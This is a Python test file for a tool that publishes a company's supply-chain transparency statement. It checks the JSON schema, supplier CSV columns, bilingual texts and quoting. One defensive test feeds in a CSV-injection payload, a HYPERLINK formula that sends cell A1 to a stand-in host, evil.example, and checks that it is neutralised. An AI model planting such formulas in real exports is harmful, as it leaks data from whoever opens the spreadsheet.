"""Unit tests for the machine-readable statement (``statement.json``, its schema, ``suppliers.csv``).

They prove, for both languages: the document validates against the published schema, which is the
output models' own schema; its values are the data's (every supplier, the risk levels of
``countries.yml`` read independently of the models, texts in the document's language and no
``{nb, en}`` pair left); the draft header follows ``completeness.missing_for_publication``; the CSV has
exactly the documented columns, one row per supplier and production country, risk levels that agree
with ``countries.yml``, and RFC 4180 quoting that round-trips commas, quotes and newlines; the files
are written as promised; and DEVELOPING.md documents every column and top-level field.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from aapenhet.model.completeness import missing_for_publication
from aapenhet.model.loader import load_statement_data
from aapenhet.model.models import (
    ActualImpacts,
    Contact,
    Impact,
    MeasureStatus,
    ReportingPeriod,
    Revision,
    Signatory,
    Statement,
    StatementData,
    Suppliers,
    Text,
    Where,
)
from aapenhet.publishing import export
from aapenhet.publishing.csv_cells import LIST_SEPARATOR
from aapenhet.publishing.cycle_csv import (
    MEASURE_COLUMNS,
    MEASURES_FILE,
    RISK_COLUMNS,
    RISKS_FILE,
    measures_csv,
    risks_csv,
)
from aapenhet.publishing.datapackage import DATAPACKAGE_FILE
from aapenhet.publishing.export import (
    CSV_FILE,
    JSON_FILE,
    SCHEMA_FILE,
    SUPPLIER_COLUMNS,
    statement_schema,
    write_machine_readable,
)
from aapenhet.publishing.json_files import model_json_pieces
from aapenhet.publishing.registry_summary import REGISTRY_CSV_FILE, REGISTRY_JSON_FILE
from aapenhet.rendering.labels import Labels, load_labels
from aapenhet.source.yaml_source import parse_yaml
from aapenhet.view.document import StatementDocument
from aapenhet.view.statement_view import statement_view
from site_build import PROJECT, REPO, fill_data

LANGUAGES = ("nb", "en")
OTHER = {"nb": "en", "en": "nb"}
TRICKY = 'Acme, "the best"\nsecond line; still one value'


def statement_model(data: StatementData, language: str) -> StatementDocument:
    """The published document of ``data`` in ``language``: what statement.json holds."""
    return statement_view(data, language).document


def statement_document(data: StatementData, language: str) -> dict[str, object]:
    """statement.json as JSON-ready data."""
    return statement_model(data, language).model_dump(mode="json", by_alias=True)


def suppliers_csv(data: StatementData, language: str, *, labels: Labels | None = None) -> str:
    """suppliers.csv as text (it is written as UTF-8)."""
    return export.suppliers_csv(statement_view(data, language), labels=labels).decode("utf-8")


@pytest.fixture(scope="module")
def data() -> StatementData:
    return load_statement_data(PROJECT / "data")


@pytest.fixture(scope="module")
def filled_in(tmp_path_factory: pytest.TempPathFactory) -> StatementData:
    """The shipped data with what the seed does not say filled in (test values, see site_build.fill_data)."""
    data_dir = shutil.copytree(PROJECT / "data", tmp_path_factory.mktemp("filled") / "data")
    fill_data(data_dir)
    return load_statement_data(data_dir)


@pytest.fixture(scope="module")
def labels() -> Labels:
    return load_labels()


@pytest.fixture(scope="module")
def raw_countries() -> dict[str, dict]:
    """countries.yml as the YAML says it (strings, no models), by country code."""
    parsed = parse_yaml((PROJECT / "data" / "countries.yml").read_text(encoding="utf-8"), "data/countries.yml")
    return {entry["code"]: entry for entry in parsed.data["countries"]}


def signed(data: StatementData) -> StatementData:
    """The shipped data with a complete, signed statement (invented test values, not facts)."""
    statement = Statement(
        reporting_period=ReportingPeriod(start=datetime.date(2024, 1, 1), end=datetime.date(2024, 12, 31)),
        companies_covered=["Exempla AS"],
        approved_on=datetime.date(2025, 6, 27),
        published_on=datetime.date(2025, 6, 30),
        signatories=[Signatory(name="Test Styreleder", role="board_chair"), Signatory(name="Test Leder", role="ceo")],
        contact=Contact(email="test@example.org", postal_address=["Test AS", "Postboks 1", "0101 Oslo"]),
        revisions=[Revision(date=datetime.date(2025, 9, 1), summary=Text(nb="Endret", en="Changed"))],
    )
    return data.model_copy(update={"statement": statement})


def with_tricky_supplier_texts(data: StatementData) -> StatementData:
    """The first supplier's name and first product line hold a comma, quotes, a newline and a semicolon."""
    first, *rest = data.suppliers.suppliers
    line, *other_lines = first.production
    line = line.model_copy(update={"product_line": Text(nb=TRICKY + " nb", en=TRICKY + " en")})
    first = first.model_copy(update={"name": TRICKY, "production": [line, *other_lines]})
    return data.model_copy(update={"suppliers": Suppliers(suppliers=[first, *rest])})


def strings_in(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def dicts_in(value: object) -> Iterator[dict]:
    if isinstance(value, dict):
        yield value
        for item in value.values():
            yield from dicts_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from dicts_in(item)


def texts_in(model: object) -> Iterator[Text]:
    """Every ``Text`` anywhere in the validated data."""
    if isinstance(model, Text):
        yield model
    elif isinstance(model, list):
        for item in model:
            yield from texts_in(item)
    elif hasattr(model, "__pydantic_fields__"):
        for name in type(model).model_fields:
            yield from texts_in(getattr(model, name))


def csv_rows(content: str | bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text, newline="")))


def validator() -> Draft202012Validator:
    schema = statement_schema()
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


# --- statement.json and its schema -------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_document_validates_against_the_published_schema(data: StatementData, language: str) -> None:
    for document in (statement_document(data, language), statement_document(signed(data), language)):
        errors = [
            f"{'/'.join(map(str, error.absolute_path))}: {error.message}" for error in validator().iter_errors(document)
        ]
        assert errors == []


def test_schema_is_the_output_models_schema_in_draft_2020_12() -> None:
    schema = statement_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert {key: value for key, value in schema.items() if key != "$schema"} == StatementDocument.model_json_schema(
        by_alias=True, mode="serialization"
    )
    assert schema["additionalProperties"] is False and "schema" in schema["required"]


def test_schema_rejects_what_the_document_must_not_hold(data: StatementData) -> None:
    document = statement_document(data, "en")
    document["suppliers"][0]["name"] = {"nb": "x", "en": "x"}
    document["unexpected"] = 1
    document["status"] = "approved"
    messages = sorted(error.message for error in validator().iter_errors(document))
    assert len(messages) == 3, messages


@pytest.mark.parametrize("language", LANGUAGES)
def test_header_of_a_draft(data: StatementData, language: str) -> None:
    document = statement_document(data, language)
    header = (document["schema"], document["language"], document["authoritative_language"])
    assert header == (SCHEMA_FILE, language, "nb")
    assert document["status"] == "draft"
    expected = [item.value for item in missing_for_publication(data)]
    assert (
        document["missing"]
        == expected
        == [
            "reporting_period",
            "approved_on",
            "published_on",
            "board_signatures",
            "ceo_signature",
            "contact_email",
            "postal_address",
            "actual_impacts",
            "source_edition",
            "risk_assessment",
            "measure_results",
            "measure_dates",
        ]
    )


def test_header_and_dates_of_a_final_statement(filled_in: StatementData) -> None:
    document = statement_document(signed(filled_in), "en")
    assert (document["status"], document["missing"]) == ("final", [])
    statement = document["statement"]
    assert statement["reporting_period"] == {"start": "2024-01-01", "end": "2024-12-31"}
    assert (statement["approved_on"], statement["published_on"]) == ("2025-06-27", "2025-06-30")
    assert statement["signatories"] == [
        {"name": "Test Styreleder", "role": "board_chair"},
        {"name": "Test Leder", "role": "ceo"},
    ]
    assert statement["revisions"] == [{"date": "2025-09-01", "summary": "Changed"}]
    assert statement["contact"] == {
        "email": "test@example.org",
        "postal_address": ["Test AS", "Postboks 1", "0101 Oslo"],
    }


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_supplier_is_there_with_its_facts(data: StatementData, language: str) -> None:
    document = statement_document(data, language)
    assert [(s["id"], s["name"]) for s in document["suppliers"]] == [
        ("hp", "HP Inc."),
        ("zebra", "Zebra Technologies"),
        ("integration-wizard", "Integration Wizard (IW)"),
    ]
    zebra = document["suppliers"][1]
    countries = [[c["country_code"] for c in line["countries"]] for line in zebra["production"]]
    assert countries == [["CN", "TW", "VN"], ["GB"]]
    iw = document["suppliers"][2]
    assert iw["ownership"]["owner"] == "SparkCognition" and iw["ownership"]["share_percent"] == 100
    us = {"nb": "USA", "en": "United States"}[language]
    assert iw["ownership"]["headquarters"] == {"country_code": "US", "country_name": us, "city": "Austin, Texas"}
    assert (iw["relationship_years"], iw["relationship_years_approximate"]) == (7, True)
    assert iw["measure_ids"] == ["iw-visits"]
    company = document["company"]
    assert (company["name"], company["employees"], company["locations_in_norway"]) == ("Exempla AS", 250, 17)
    assert company["organisation_number"] is None


@pytest.mark.parametrize("language", LANGUAGES)
def test_country_risk_equals_countries_yml(data: StatementData, raw_countries: dict[str, dict], language: str) -> None:
    document = statement_document(data, language)
    exported = {c["country_code"]: c for c in document["countries"]}
    assert list(exported) == list(raw_countries)
    for code, raw in raw_countries.items():
        assert exported[code]["risk_level"] == raw.get("risk"), code
        assert exported[code]["rating_source"] == raw.get("source"), code
        assert exported[code]["risk_areas"] == raw.get("areas", []), code
    assert document["rating_sources"] == [
        {
            "id": "ituc-gri",
            "name": "ITUC Global Rights Index",
            "publisher": "ITUC",
            "year": None,
            "url": "https://www.globalrightsindex.org/",
        }
    ]


def test_country_names_are_in_the_documents_language(data: StatementData) -> None:
    nb, en = statement_document(data, "nb"), statement_document(data, "en")
    assert {c["country_code"]: c["country_name"] for c in nb["countries"]}["CN"] == "Kina"
    assert {c["country_code"]: c["country_name"] for c in en["countries"]}["CN"] == "China"
    assert nb["company"]["markets"] == [{"country_code": "NO", "country_name": "Norge"}]
    assert en["due_diligence"]["risks"][0]["where"]["countries"] == [{"country_code": "NO", "country_name": "Norway"}]
    assert en["due_diligence"]["risks"][2]["where"]["countries"] == []


@pytest.mark.parametrize("language", LANGUAGES)
def test_texts_are_in_the_documents_language_only(data: StatementData, language: str) -> None:
    document = statement_document(data, language)
    strings = set(strings_in(document))
    texts = list(texts_in(data))
    wanted = {text.in_language(language) for text in texts}
    unwanted = {text.in_language(OTHER[language]) for text in texts} - wanted
    assert wanted - strings == set()
    assert unwanted & strings == set()
    assert [d for d in dicts_in(document) if set(d) == {"nb", "en"}] == []


def test_unknown_language_is_refused(data: StatementData) -> None:
    with pytest.raises(ValueError, match="expected nb or en"):
        statement_document(data, "de")
    with pytest.raises(ValueError, match="expected nb or en"):
        suppliers_csv(data, "de")


# --- suppliers.csv -----------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_csv_has_the_documented_columns_and_a_row_per_supplier_and_country(data: StatementData, language: str) -> None:
    text = suppliers_csv(data, language)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == SUPPLIER_COLUMNS
    rows = list(reader)
    expected = list(
        dict.fromkeys(
            (supplier.id, code)
            for supplier in data.suppliers.suppliers
            for line in supplier.production
            for code in line.countries
        )
    )
    assert [(row["supplier_id"], row["country_code"]) for row in rows] == expected
    assert [(row["supplier_id"], row["country_code"]) for row in rows] == [
        ("hp", "CZ"),
        ("hp", "CN"),
        ("zebra", "CN"),
        ("zebra", "TW"),
        ("zebra", "VN"),
        ("zebra", "GB"),
        ("integration-wizard", "IN"),
    ]
    assert text.startswith(",".join(SUPPLIER_COLUMNS) + "\r\n") and text.endswith("\r\n")
    assert all(None not in row and all(value is not None for value in row.values()) for row in rows)


@pytest.mark.parametrize("language", LANGUAGES)
def test_csv_risk_agrees_with_countries_yml(
    data: StatementData, raw_countries: dict[str, dict], labels: Labels, language: str
) -> None:
    for row in csv_rows(suppliers_csv(data, language)):
        raw = raw_countries[row["country_code"]]
        assert row["risk_level"] == (raw.get("risk") or ""), row
        areas = raw.get("areas", [])
        assert row["risk_area_codes"] == LIST_SEPARATOR.join(areas), row
        assert row["risk_areas"] == LIST_SEPARATOR.join(labels.get(f"area.{area}", language) for area in areas), row
        rated = bool(raw.get("risk"))
        assert row["rating_source"] == ("ITUC Global Rights Index" if rated else ""), row
        assert row["rating_source_url"] == ("https://www.globalrightsindex.org/" if rated else ""), row
        assert row["rating_source_year"] == "", row  # not given in the current statement


def test_csv_cells_in_each_language(data: StatementData) -> None:
    nb = {(r["supplier_id"], r["country_code"]): r for r in csv_rows(suppliers_csv(data, "nb"))}
    en = {(r["supplier_id"], r["country_code"]): r for r in csv_rows(suppliers_csv(data, "en"))}
    assert (nb["hp", "CN"]["country_name"], en["hp", "CN"]["country_name"]) == ("Kina", "China")
    assert (nb["hp", "CN"]["supplies"], en["hp", "CN"]["supplies"]) == ("IT-utstyr", "IT equipment")
    assert nb["hp", "CN"]["risk_areas"] == "tvangsarbeid; arbeidstakerrettigheter; barnearbeid; diskriminering"
    assert en["hp", "CN"]["risk_areas"] == "forced labour; workers' rights; child labour; discrimination"
    zebra_gb = en["zebra", "GB"]
    assert (zebra_gb["product_lines"], zebra_gb["production_places"]) == ("Consumables", "England")
    assert (zebra_gb["production_notes"], en["zebra", "CN"]["production_places"]) == ("", "")
    iw = en["integration-wizard", "IN"]
    assert (iw["owner"], iw["owner_share_percent"], iw["headquarters_country_code"]) == ("SparkCognition", "100", "IN")
    assert (iw["follow_up_kinds"], iw["production_notes"]) == ("visit", "")
    assert (en["hp", "CZ"]["owner"], en["hp", "CZ"]["follow_up_kinds"]) == ("", "interview")


def test_csv_joins_the_lines_of_a_country_named_twice(data: StatementData) -> None:
    zebra = data.suppliers.suppliers[1]
    both = [line.model_copy(update={"countries": ["CN"]}) for line in zebra.production]
    only_zebra = Suppliers(suppliers=[zebra.model_copy(update={"production": both})])
    changed = data.model_copy(update={"suppliers": only_zebra})
    [row] = csv_rows(suppliers_csv(changed, "en"))
    assert row["product_lines"] == "IT equipment that Exempla buys and resells; Consumables"


@pytest.mark.parametrize("language", LANGUAGES)
def test_commas_quotes_and_newlines_round_trip(data: StatementData, language: str) -> None:
    tricky = with_tricky_supplier_texts(data)
    text = suppliers_csv(tricky, language)
    rows = csv_rows(text)
    assert rows[0]["supplier_name"] == TRICKY and rows[0]["product_lines"] == f"{TRICKY} {language}"
    assert len(rows) == 7
    assert '"Acme, ""the best""\nsecond line; still one value"' in text  # RFC 4180 quoting, newline kept as is
    document = statement_document(tricky, language)
    assert json.loads(json.dumps(document, ensure_ascii=False))["suppliers"][0]["name"] == TRICKY


# --- the files ---------------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_write_machine_readable_writes_every_file(data: StatementData, tmp_path: Path, language: str) -> None:
    tricky = with_tricky_supplier_texts(data)
    directory = tmp_path / "site" / ("en" if language == "en" else "")
    paths = write_machine_readable(directory, statement_view(tricky, language))
    registry = (REGISTRY_CSV_FILE, REGISTRY_JSON_FILE)
    written = (JSON_FILE, SCHEMA_FILE, CSV_FILE, RISKS_FILE, MEASURES_FILE, *registry, DATAPACKAGE_FILE)
    assert paths == [directory / name for name in written]

    json_text = (directory / JSON_FILE).read_text(encoding="utf-8")
    assert json_text.endswith("}\n") and not json_text.endswith("\n\n")
    assert json.loads(json_text) == statement_document(tricky, language)
    # Indent 2, keys in the models' order (not sorted).
    assert json_text.startswith('{\n  "schema": "statement.schema.json",\n  "language"')
    assert "Integration Wizard" in json_text and ("Bærekraftspolicy" in json_text) == (language == "nb")  # not \u00e6

    assert json.loads((directory / SCHEMA_FILE).read_text(encoding="utf-8")) == statement_schema()

    csv_bytes = (directory / CSV_FILE).read_bytes()
    assert csv_bytes == suppliers_csv(tricky, language).encode("utf-8")
    with (directory / CSV_FILE).open(encoding="utf-8", newline="") as file:
        assert next(csv.DictReader(file))["supplier_name"] == TRICKY


# --- the README --------------------------------------------------------------------------------


def test_the_developers_guide_documents_every_column_and_top_level_field() -> None:
    readme = (REPO / "DEVELOPING.md").read_text(encoding="utf-8")
    section = readme.split("## Machine-readable statement", 1)[1].split("\n## ", 1)[0]
    documented = set(re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.MULTILINE))
    top_level = set(StatementDocument.model_json_schema(by_alias=True)["properties"])
    assert set(SUPPLIER_COLUMNS) - documented == set()
    assert set(RISK_COLUMNS) - documented == set()
    assert set(MEASURE_COLUMNS) - documented == set()
    assert top_level - documented == set()
    urls = (
        "/statement.json",
        "/en/statement.json",
        "/statement.schema.json",
        "/suppliers.csv",
        "/en/suppliers.csv",
        "/risks_and_impacts.csv",
        "/en/risks_and_impacts.csv",
        "/measures.csv",
        "/en/measures.csv",
        "/datapackage.json",
        "/en/datapackage.json",
        "/registry_summary.csv",
        "/en/registry_summary.json",
    )
    for url in urls:
        assert f"`{url}`" in section, url


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_due_diligence_cycle_is_exported_with_its_links(data: StatementData, language: str) -> None:
    dd = statement_document(data, language)["due_diligence"]
    assert [risk["id"] for risk in dd["risks"]] == [risk.id for risk in data.due_diligence.risks]
    assert [(m["id"], m["status"], m["kind"]) for m in dd["measures"]] == [
        (m.id, m.status.value, m.kind.value) for m in data.due_diligence.measures
    ]
    assert dd["actual_impacts"] == {"status": "not_stated", "how_looked_for": None, "impacts": []}
    electronics = dd["risks"][2]
    assert (electronics["risk_level"], electronics["exposure"], electronics["severity"]) == ("elevated", "some", None)
    assert electronics["rights_at_risk"] == ["human_rights", "decent_work"]
    assert [risk["measure_ids"] for risk in dd["risks"]] == [[], [], ["hp-interviews", "zebra-interviews"]]
    results = {m["id"]: (m["result"], m["expected_result"], m["supplier_said"] is not None) for m in dd["measures"]}
    assert results["hp-interviews"] == (None, None, True), "what HP said is the supplier's words, not a result"
    assert results["iw-visits"][0] is not None and results["policies-updated"] == (None, None, False)


def test_measure_ids_follow_the_measures_links(filled_in: StatementData) -> None:
    measures = [
        m.model_copy(update={"addresses": ["electronics-trade"]}) if m.id == "evaluate-risk" else m
        for m in filled_in.due_diligence.measures
    ]
    data = filled_in.model_copy(
        update={"due_diligence": filled_in.due_diligence.model_copy(update={"measures": measures})}
    )
    dd = statement_document(data, "en")["due_diligence"]
    assert dd["risks"][2]["measure_ids"][:2] == ["policies-updated", "significant-changes-reported"]
    assert "evaluate-risk" in dd["risks"][2]["measure_ids"]
    assert dd["actual_impacts"]["status"] == "none_identified"
    assert dd["measures"][0]["result"] == "Test result"


# --- risks_and_impacts.csv and measures.csv --------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_cycle_csvs_have_the_documented_columns_and_agree_with_the_json(data: StatementData, language: str) -> None:
    document = statement_model(data, language)
    risks = csv_rows(risks_csv(document))
    assert list(risks[0]) == list(RISK_COLUMNS)
    assert [(row["id"], row["type"]) for row in risks] == [(risk.id, "risk") for risk in data.due_diligence.risks]
    electronics = risks[2]
    assert (electronics["risk_level"], electronics["exposure"], electronics["severity"]) == ("elevated", "some", "")
    assert electronics["rights"] == "human_rights; decent_work"
    assert risks[0]["country_codes"] == "NO" and risks[0]["country_names"] == {"nb": "Norge", "en": "Norway"}[language]
    measures = csv_rows(measures_csv(document))
    assert list(measures[0]) == list(MEASURE_COLUMNS)
    assert [(row["measure_id"], row["status"]) for row in measures] == [
        (m.id, m.status.value) for m in data.due_diligence.measures
    ]
    assert {row["measure_id"]: row["result"] != "" for row in measures}["iw-visits"] is True
    assert all(row["supplier_said"] != "" for row in measures if row["kind"] == "interview")


def test_an_impact_and_its_measure_are_rows_with_their_links(filled_in: StatementData) -> None:
    impact = Impact(
        id="overtime-vn",
        title=Text(nb="Overtid", en="Overtime"),
        where=Where(countries=["VN"]),
        description=Text(nb="For mye overtid.", en="Too much overtime."),
        remediation_status=MeasureStatus.ongoing,
        identified_on=datetime.date(2025, 3, 1),
    )
    measure = filled_in.due_diligence.measures[0].model_copy(update={"addresses": ["overtime-vn"]})
    dd = filled_in.due_diligence.model_copy(
        update={
            "actual_impacts": ActualImpacts(impacts=[impact]),
            "measures": [measure, *filled_in.due_diligence.measures[1:]],
        }
    )
    document = statement_model(filled_in.model_copy(update={"due_diligence": dd}), "en")
    row = csv_rows(risks_csv(document))[-1]
    assert (row["id"], row["type"], row["identified_on"], row["remediation_status"], row["measure_ids"]) == (
        "overtime-vn",
        "actual_impact",
        "2025-03-01",
        "ongoing",
        measure.id,
    )
    assert csv_rows(measures_csv(document))[0]["addresses"] == "overtime-vn"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(data: StatementData, start: str) -> None:
    """OWASP's rule for CSV injection: a cell starting with = + - @ tab or CR gets a leading '."""
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    first, *rest = data.suppliers.suppliers
    tricky = data.model_copy(
        update={"suppliers": Suppliers(suppliers=[first.model_copy(update={"name": formula}), *rest])}
    )
    assert csv_rows(suppliers_csv(tricky, "en"))[0]["supplier_name"] == "'" + formula
    # (Texts from data/ are stripped, so a leading tab or CR can only reach a cell through a name.)
    title = Text(nb=formula, en=formula).en
    measures = [m.model_copy(update={"title": Text(nb=title, en=title)}) for m in data.due_diligence.measures]
    with_measures = data.model_copy(
        update={"due_diligence": data.due_diligence.model_copy(update={"measures": measures})}
    )
    expected = "'" + title if title[0] in "=+-@" else title
    assert all(row["title"] == expected for row in csv_rows(measures_csv(statement_model(with_measures, "en"))))
    assert csv_rows(suppliers_csv(data, "en"))[0]["supplier_name"] == "HP Inc."  # plain text is left as it is


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_document_written_in_pieces_is_what_pydantic_writes_whole(data: StatementData, language: str) -> None:
    """The same bytes, every key by its alias, and texts with quotes and line breaks as they were."""
    for document in (statement_model(data, language), statement_model(with_tricky_supplier_texts(data), language)):
        whole = document.__pydantic_serializer__.to_json(document, by_alias=True, indent=2)
        assert b"".join(model_json_pieces(document)) == whole
